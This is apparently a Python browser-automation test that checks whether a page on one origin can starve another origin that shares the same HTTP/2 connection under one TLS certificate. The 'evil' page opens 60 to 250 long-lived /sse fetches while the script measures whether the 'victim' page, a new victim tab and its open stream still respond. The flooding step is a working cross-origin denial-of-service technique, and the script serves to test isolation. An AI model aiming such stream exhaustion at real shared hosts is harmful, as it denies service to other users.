"""TLS: the browser uses one HTTP/2 connection for all names of the certificate. Evil's page holds many streams. Can the viewer still use victim's
port, and do victim's open streams survive?"""
import time
from common import *
with browser() as c:
    v = c.new_page(); v.goto(login("VICTIM")); v.goto(origin("VICTIM") + page())
    print("protocol:", v.evaluate("performance.getEntriesByType('navigation')[0].nextHopProtocol"))
    v.evaluate("window.got=[];fetch('/sse').then(async x=>{got.push('status '+x.status);const q=x.body.getReader();for(;;){const z=await q.read();if(z.done)break;got.push('tick')}got.push('ended')}).catch(x=>got.push('cut '+x));0")
    e = c.new_page(); e.goto(login("EVIL")); e.goto(origin("EVIL") + page())
    look = "Promise.race([fetch('/echo').then(x=>x.status).catch(x=>''+x), new Promise(d=>setTimeout(()=>d('no answer in 8 s'),8000))])"
    print("control, victim's page:", v.evaluate(look))
    for n in (60, 110, 250):
        e.evaluate(f"window.all=(window.all||[]);window.st=(window.st||{{}});for(let i=all.length;i<{n};i++){{all.push(fetch('/sse?'+i).then(x=>st[x.status]=(st[x.status]||0)+1).catch(x=>st[x]=(st[x]||0)+1))}};0")
        time.sleep(4)
        print(f"evil's page holds {n}: its answers {e.evaluate('st')}; victim's page asks: {v.evaluate(look)}; a new tab of victim: ", end="")
        t = c.new_page()
        try: print(t.goto(origin("VICTIM") + "/echo", timeout=8000).status)
        except Exception as x: print(str(x).split("\n")[0][:80])
        t.close()
        print("   victim's own stream:", [x for x in v.evaluate("got") if x != "tick"], "ticks", v.evaluate("got.filter(x=>x=='tick').length"))
    e.evaluate("for(let i=0;i<150;i++)fetch('/echo?'+i,{credentials:'omit'}).catch(x=>x);0"); time.sleep(4)
    print("after 150 more that show nothing:", v.evaluate(look), [x for x in v.evaluate("got") if x != "tick"])
    e.close(); time.sleep(2); print("evil's page closed:", v.evaluate(look))
